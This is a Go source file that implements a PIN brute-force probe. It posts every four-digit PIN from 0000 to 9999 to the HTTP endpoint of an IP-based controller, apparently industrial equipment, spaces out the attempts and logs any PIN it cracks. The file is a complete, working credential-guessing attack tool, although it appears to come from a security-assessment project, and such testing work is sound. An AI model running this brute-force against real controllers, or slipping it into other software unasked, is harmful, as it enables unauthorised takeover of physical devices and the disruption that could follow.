package probe

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"

	"github.com/khanhnv2901/industrilock/internal/domain/finding"
	"github.com/khanhnv2901/industrilock/internal/domain/pin"
	consts "github.com/khanhnv2901/industrilock/internal/shared/constants"
	sharedErrors "github.com/khanhnv2901/industrilock/internal/shared/errors"
	"go.uber.org/zap"
)

type pinRequest struct {
	PIN string `json:"pin"`
}

// APIPinProbe brute-forces the PIN endpoint of an IP-based controller.
type APIPinProbe struct {
	Endpoint string
	Timeout  time.Duration
	Delay    time.Duration
	Client   *http.Client
	Logger   *zap.SugaredLogger
}

// Name returns the probe identifier.
func (p *APIPinProbe) Name() string {
	return "api"
}

// Run posts 0000..9999 in order and stops at the first accepted PIN.
func (p *APIPinProbe) Run(ctx context.Context, sink *finding.Sink) {
	log := loggerOrNop(p.Logger)

	client := p.Client
	if client == nil {
		client = newHTTPClient(p.Timeout)
	}

	log.Infof("Starting API brute-force on %s", p.Endpoint)

	pacer := NewPacer(p.Delay)
	tried, err := pin.Each(ctx, func(ctx context.Context, candidate string) (bool, error) {
		if err := pacer.Wait(ctx); err != nil {
			return false, err
		}
		accepted, err := p.tryPIN(ctx, client, candidate)
		pacer.Done()
		if err != nil {
			return false, err
		}
		if accepted {
			sink.Append(finding.APICracked(candidate))
			log.Infof("API PIN cracked: %s", candidate)
		}
		return accepted, nil
	})
	if err != nil {
		log.Errorf("API request failed after %d attempts: %v", tried, err)
		return
	}

	log.Infof("API brute-force on %s finished after %d attempts", p.Endpoint, tried)
}

func (p *APIPinProbe) tryPIN(ctx context.Context, client *http.Client, candidate string) (bool, error) {
	status, body, err := postJSON(ctx, client, p.Endpoint, pinRequest{PIN: candidate})
	if err != nil {
		return false, err
	}
	return status == http.StatusOK &&
		strings.Contains(strings.ToLower(body), consts.APISuccessMarker), nil
}

func newHTTPClient(timeout time.Duration) *http.Client {
	if timeout <= 0 {
		timeout = consts.DefaultHTTPTimeout
	}
	return &http.Client{Timeout: timeout}
}

// postJSON sends payload and returns the status code and at most
// ResponseBodyLimitBytes of the body.
func postJSON(ctx context.Context, client *http.Client, url string, payload any) (int, string, error) {
	data, err := json.Marshal(payload)
	if err != nil {
		return 0, "", fmt.Errorf("%w: %v", sharedErrors.ErrSerializationFailed, err)
	}

	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(data))
	if err != nil {
		return 0, "", fmt.Errorf("%w: create request: %v", sharedErrors.ErrTransport, err)
	}
	req.Header.Set("Content-Type", "application/json")

	resp, err := client.Do(req)
	if err != nil {
		return 0, "", fmt.Errorf("%w: %v", sharedErrors.ErrTransport, err)
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(io.LimitReader(resp.Body, consts.ResponseBodyLimitBytes))
	if err != nil {
		return 0, "", fmt.Errorf("%w: read body: %v", sharedErrors.ErrTransport, err)
	}
	// Drain the rest so the connection can be reused
	_, _ = io.Copy(io.Discard, resp.Body)

	return resp.StatusCode, string(body), nil
}
